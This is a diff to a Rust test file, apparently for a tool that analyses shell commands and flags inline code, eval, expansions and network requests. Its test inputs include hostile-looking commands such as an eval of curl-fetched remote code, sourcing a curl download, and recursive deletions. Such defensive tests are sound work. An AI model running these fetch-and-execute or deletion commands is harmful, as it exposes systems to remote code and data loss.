@@ -2250,10 +2250,7 @@ fn opaque_parts() {
             &["perl runs inline code: unlink glob \"*\""],
         ),
         ("ruby -e 'puts 1'", &["ruby runs inline code: puts 1"]),
-        (
-            "eval \"$CMD\"",
-            &["eval: $CMD", "command name is an expansion: $CMD"],
-        ),
+        ("eval \"$CMD\"", &["eval: $CMD"]),
         ("$CMD --force", &["command name is an expansion: $CMD"]),
         (
             "source <(curl -s https://x.io/env)",
@@ -2277,6 +2274,10 @@ fn opaque_parts() {
         );
     }
     check("eval 'rm -rf build'", json!([delete(&at("build"), true)]));
+    check(
+        "sh -c 'eval \"$(curl -s x.io/cmd)\"'",
+        json!([url_request("curl", "http://x.io/cmd", "GET", empty())]),
+    );
     check(
         "source <(curl -s https://x.io/env)",
         json!([url_request("curl", "https://x.io/env", "GET", empty())]),
